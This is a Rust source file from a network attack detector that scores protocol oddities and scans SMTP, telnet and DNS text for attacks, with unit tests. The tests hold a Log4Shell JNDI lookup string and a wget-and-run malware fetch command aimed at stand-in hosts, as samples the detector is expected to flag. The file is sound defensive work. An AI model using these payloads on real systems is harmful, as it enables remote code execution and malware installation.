//! What protocols besides HTTP give to judge: oddities and text.
//!
//! An oddity is its own evidence. Text is looked at with the pattern rules of the classes that act in any program that logs or
//! runs what it reads (a JNDI lookup, a command, a malware fetch): in a user name or a command line they mean the same as in a URL.

use std::net::SocketAddr;

use crate::detect::score::Found;
use crate::detect::value::ValueKind;
use crate::detect::{Detector, RuleInfo, Scratch, Verdict, short_hash};
use crate::model::attempt::{EXCERPT_MAX_BYTES, Evidence, Judgement, cut_text};
use crate::model::class::{Class, ClassSet};
use crate::protocol::found::Oddity;
use crate::protocol::request::{Defects, Request};
use crate::protocol::{PROTOCOLS, datagram::DATAGRAMS};
use sha2::{Digest, Sha256};

/// Classes whose rules hold in any text.
const TEXT_CLASSES: [Class; 3] = [Class::WebIot, Class::WebJava, Class::WebRce];
/// Of what is typed into a shell, where commands are what is expected and no injection.
const SHELL_CLASSES: [Class; 2] = [Class::WebIot, Class::WebJava];
/// The field in which parsers give such text.
const SHELL_FIELD: &str = "shell";
/// Text judged of one field; longer fields are judged by their beginning.
const TEXT_MAX_BYTES: usize = 4 << 10;

/// Every oddity of every protocol.
pub fn oddities() -> impl Iterator<Item = &'static Oddity> {
    let streams = PROTOCOLS.iter().flat_map(|row| row.oddities);
    streams.chain(DATAGRAMS.iter().flat_map(|row| row.oddities)).copied()
}

/// An oddity as a rule, for people.
pub fn info(oddity: &Oddity, enabled: bool) -> RuleInfo {
    RuleInfo {
        id: oddity.id.to_owned(),
        class: oddity.class,
        weight: oddity.weight,
        hash: short_hash(hash(Sha256::new(), oddity)),
        title: oddity.title.to_owned(),
        enabled,
    }
}

/// Adds what makes an oddity to a hash.
pub fn hash(hash: Sha256, oddity: &Oddity) -> Sha256 {
    hash.chain_update(oddity.id).chain_update(oddity.weight.to_be_bytes())
}

impl Detector {
    /// Judges a message of a form that only an attacker sends, in protocol `app`, by its client and server.
    pub fn judge_oddity(
        &self,
        app: &str,
        oddity: &Oddity,
        excerpt: &[u8],
        (client, server): (SocketAddr, SocketAddr),
    ) -> Verdict {
        if self.disabled.iter().any(|id| id == oddity.id) {
            return Verdict::Clean;
        }
        if oddity.weight < self.threshold {
            return Verdict::Suspicious;
        }
        if self.exceptions.excuse(oddity.id, client.ip(), server) {
            return Verdict::Excepted;
        }
        Verdict::Attack(Judgement {
            class: oddity.class,
            labels: ClassSet::default(),
            score: oddity.weight,
            evidence: vec![Evidence {
                rule: oddity.id.into(),
                place: app.into(),
                excerpt: cut_text(&excerpt.escape_ascii().collect::<Vec<u8>>(), EXCERPT_MAX_BYTES),
            }],
        })
    }

    /// Judges text that stood in `field` of protocol `app`.
    pub fn judge_text(
        &self,
        app: &str,
        (field, text): (&str, &[u8]),
        server: SocketAddr,
        scratch: &mut Scratch,
    ) -> Verdict {
        let text = text.get(..text.len().min(TEXT_MAX_BYTES)).unwrap_or(text);
        let Scratch { views, candidates, found, .. } = scratch;
        found.clear();
        let request =
            Request { method: b"", target: b"", headers: &[], body: text, defects: Defects::default() };
        views.each(ValueKind::Body, text, |view| {
            self.look(view, (ValueKind::Body, field.as_bytes()), &request, (candidates, found));
        });
        let classes: &[Class] = if field == SHELL_FIELD { &SHELL_CLASSES } else { &TEXT_CLASSES };
        found.retain(|finding: &Found| classes.contains(&finding.class));
        if found.is_empty() {
            return Verdict::Clean;
        }
        match self.verdict(&request, server, found) {
            Verdict::Attack(judgement) => Verdict::Attack(of_service(app, field, judgement)),
            other => other,
        }
    }
}

/// A judgement by rules of the web, as one of a service: what the rule says stays as a label.
fn of_service(app: &str, field: &str, mut judgement: Judgement) -> Judgement {
    judgement.labels.insert(judgement.class);
    judgement.class = Class::ExploitService;
    for evidence in &mut judgement.evidence {
        evidence.place = format!("{app}:{field}").into();
    }
    judgement
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::Settings;

    #[test]
    fn a_lookup_in_any_text_is_an_attempt_and_ordinary_text_is_not() {
        let detector = Detector::new(&Settings::default()).unwrap();
        let server = "203.0.113.10:25".parse().unwrap();
        let judge =
            |text: &[u8]| detector.judge_text("smtp", ("command", text), server, &mut Scratch::default());
        let Verdict::Attack(judgement) = judge(b"EHLO ${jndi:ldap://198.51.100.7:1389/a}") else {
            panic!("no attack")
        };
        assert_eq!(judgement.class, Class::ExploitService);
        assert!(judgement.labels.contains(Class::WebJava));
        assert_eq!(&*judgement.evidence[0].place, "smtp:command");
        for honest in
            [&b"EHLO mail.example.org"[..], b"RCPT TO:<o'brien@example.org>", b"select 1 union select 2"]
        {
            assert_eq!(judge(honest), Verdict::Clean, "{}", honest.escape_ascii());
        }
    }

    #[test]
    fn commands_in_a_shell_are_no_injection_and_a_malware_fetch_is_one() {
        let detector = Detector::new(&Settings::default()).unwrap();
        let server = "203.0.113.10:23".parse().unwrap();
        let judge =
            |text: &[u8]| detector.judge_text("telnet", ("shell", text), server, &mut Scratch::default());
        for honest in [&b"cd /var/log; cat messages | grep error"[..], b"rm -rf /tmp/old; uname -a"] {
            assert_eq!(judge(honest), Verdict::Clean, "{}", honest.escape_ascii());
        }
        assert!(matches!(judge(b"cd /tmp; wget http://192.0.2.9/bins.sh; sh bins.sh"), Verdict::Attack(_)));
    }

    #[test]
    fn an_exception_excuses_a_message_of_its_client_at_its_site_alone() {
        let settings = "[[site]]\nname = \"zone\"\naddresses = [\"203.0.113.10\"]\n\
            [[detect.exception]]\nrule = \"dns.axfr\"\nclient = \"198.51.100.0/29\"\nsite = \"zone\"\n";
        let detector = Detector::new(&toml::from_str::<Settings>(settings).unwrap()).unwrap();
        let axfr = oddities().find(|oddity| oddity.id == "dns.axfr").unwrap();
        let version = oddities().find(|oddity| oddity.id == "dns.version_bind").unwrap();
        let judge = |oddity, client: &str, server: &str| {
            detector.judge_oddity("dns", oddity, b"", (client.parse().unwrap(), server.parse().unwrap()))
        };
        let (secondary, server) = ("198.51.100.2:40000", "203.0.113.10:53");
        assert_eq!(judge(axfr, secondary, server), Verdict::Excepted);
        for (oddity, client, server) in [
            (axfr, "198.51.100.9:40000", server),
            (axfr, secondary, "203.0.113.11:53"),
            (version, secondary, server),
        ] {
            assert!(matches!(judge(oddity, client, server), Verdict::Attack(_)), "{client} {server}");
        }
    }

    #[test]
    fn ids_of_oddities_are_their_own() {
        let mut ids: Vec<&str> = oddities().map(|oddity| oddity.id).collect();
        let count = ids.len();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), count);
    }
}
